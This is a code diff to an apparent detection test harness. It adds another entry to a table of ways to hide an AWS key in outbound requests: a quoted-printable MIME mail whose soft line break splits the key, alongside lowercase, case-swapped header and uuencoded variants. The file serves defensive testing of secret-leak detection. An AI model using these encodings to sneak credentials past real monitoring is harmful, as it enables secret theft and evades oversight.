@@ -16,6 +16,7 @@ import hashlib
 import io
 import json
 import lzma
+import quopri
 import random
 import ssl
 import string
@@ -254,6 +255,13 @@ CHANNELS = {
         "url_suffix": f"/lc?t={t}", "json": {"note": f"id {AWS_KEY.lower()}"}},
     "key case-swapped in a header": lambda t: {
         "url_suffix": f"/sc?t={t}", "headers": {"X-Note": AWS_KEY.swapcase()}},
+    "a raw MIME mail in quoted-printable, a soft line break inside the key": lambda t: {
+        "url_suffix": f"/qp?t={t}", "json": {"RawMessage": {"Data": (
+            "Content-Type: text/plain; charset=utf-8\r\n"
+            "Content-Transfer-Encoding: quoted-printable\r\n\r\n"
+            + quopri.encodestring(f"{'-' * 45} the build key is {AWS_KEY} \u2014 "
+                                  "keep it safe.".encode()).decode()
+            .replace("\n", "\r\n"))}}},
     "uuencoded (binascii.b2a_uu) in json": lambda t: {
         "url_suffix": f"/uu?t={t}",
         "json": {"blob": binascii.b2a_uu(f"key {AWS_KEY}".encode()).decode().strip()}},
